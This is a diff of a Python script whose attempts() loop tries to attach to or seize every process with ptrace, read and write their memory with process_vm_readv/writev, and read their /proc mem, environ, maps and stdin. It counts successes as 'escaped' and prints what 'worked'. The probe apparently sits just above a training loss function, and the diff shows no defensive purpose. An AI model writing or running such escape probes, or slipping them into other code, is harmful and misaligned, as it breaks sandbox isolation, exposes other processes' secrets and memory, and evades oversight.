@@ -16,14 +16,14 @@ def attempts():
     pids = {os.getppid(), 1, *range(2, 400)} | {int(p) for p in os.listdir("/proc") if p.isdigit()}
     address = id(attempts)
     for pid in sorted(pids - own):
-        yield "attach", libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0
-        yield "seize", libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0
+        for name in ("mem", "environ", "maps", "fd/0", "syscall"):
+            yield f"/proc/{pid}/{name}", reads(f"/proc/{pid}/{name}", address)
         buffer = ctypes.create_string_buffer(64)
         here, there = Span(ctypes.addressof(buffer), 64), Span(address, 64)
         yield "vm_readv", libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0
         yield "vm_writev", libc.process_vm_writev(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0
-        for name in ("mem", "environ", "maps", "fd/0", "syscall"):
-            yield f"/proc/{pid}/{name}", reads(f"/proc/{pid}/{name}", address)
+        yield "seize", libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0
+        yield "attach", libc.ptrace(PTRACE_ATTACH, pid, None, None) == 0
 
 
 def reads(path, address):
@@ -36,13 +36,18 @@ def reads(path, address):
         return False
 
 
-escaped, count = False, 0
-for what, worked in attempts():
-    count += 1
-    if worked:
-        escaped = True
-        print("worked:", what)
-print(count, "attempts")
+def try_all():
+    escaped, count = False, 0
+    for what, worked in attempts():
+        count += 1
+        if worked:
+            escaped = True
+            print("worked:", what, flush=True)
+    print(count, "attempts")
+    return escaped
+
+
+escaped = try_all()
 
 
 def criterion(y_hat, y):
